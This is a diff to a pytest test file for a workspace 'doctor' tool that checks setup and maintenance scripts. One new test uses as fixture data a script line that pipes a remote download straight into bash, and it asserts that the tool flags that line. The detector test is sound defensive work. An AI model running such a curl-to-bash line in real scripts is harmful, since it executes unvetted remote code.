@@ -6,7 +6,8 @@ import os
 
 import pytest
 
-from pytest_codex_workspace.doctor import scripts
+from pytest_codex_workspace.doctor import script_commands, scripts
+from pytest_codex_workspace.options.script_text import GivenScripts, ScriptText
 from pytest_codex_workspace.projection.repository import open_repository
 
 from ...helpers.repositories import Repository, host_environment
@@ -39,7 +40,7 @@ def script(content):
 
 def test_both_scripts_or_none_pass(repository):
     """
-    Codex does not require the directory.
+    The directory is not required.
     """
     repository.commit({"a": "1"})
     assert ("ok", "no codex-workspace-scripts/: no setup needed") == (
@@ -52,10 +53,41 @@ def test_both_scripts_or_none_pass(repository):
     assert [RESUME, SETUP] == [one.path for one in committed(repository)]
 
 
+def test_given_scripts_are_checked_in_place_of_the_committed_ones(repository):
+    """
+    Those that run are checked, and what is not used is named.
+    """
+    text = ScriptText("mine.sh", b"curl https://x.test/i.sh | bash\nif\n")
+    repository.commit({SETUP: "true\n", RESUME: "true\n"})
+    snapshot = open_repository(repository.path, environ=repository.env)
+
+    def look(given):
+        found = scripts.scripts_at(snapshot, repository.env, given)
+        return [one.path for one in found], scripts.presence(snapshot, repository.env, given)
+
+    both = look(GivenScripts(text, text))
+    assert (["mine.sh"] * 2, "ok") == (both[0], both[1].status)
+    assert "mine.sh and mine.sh; codex-workspace-scripts/ is not used" == both[1].text
+    assert ["mine.sh"] == look(GivenScripts(text))[0]
+    assert ([SETUP, "mine.sh"], "setup-script.sh and mine.sh") == (
+        (one := look(GivenScripts(maintenance=text)))[0],
+        one[1].text,
+    )
+    found = scripts.scripts_at(snapshot, repository.env, GivenScripts(text))
+    assert "mine.sh: line 3: syntax error" in scripts.syntax(found, os.environ).text
+    assert "mine.sh:1: curl | bash" in script_commands.piped_downloads(found).text
+    assert "set" == scripts.executable_bits(found).text
+    repository.commit({SETUP: None, RESUME: None, "a": "1"})
+    bare = open_repository(repository.path, environ=repository.env)
+    alone = scripts.presence(bare, repository.env, GivenScripts(maintenance=text))
+    assert "error" == alone.status
+    assert "--codex-setup-script=PATH" in alone.remedy
+
+
 @pytest.mark.promise("S5", "S19")
 def test_a_directory_without_setup_script_is_an_error(repository):
     """
-    S5: Codex requires the script; the remedy names its path.
+    S5: this folder must have the script; the remedy names its path.
     """
     repository.commit({RESUME: "true\n"})
 
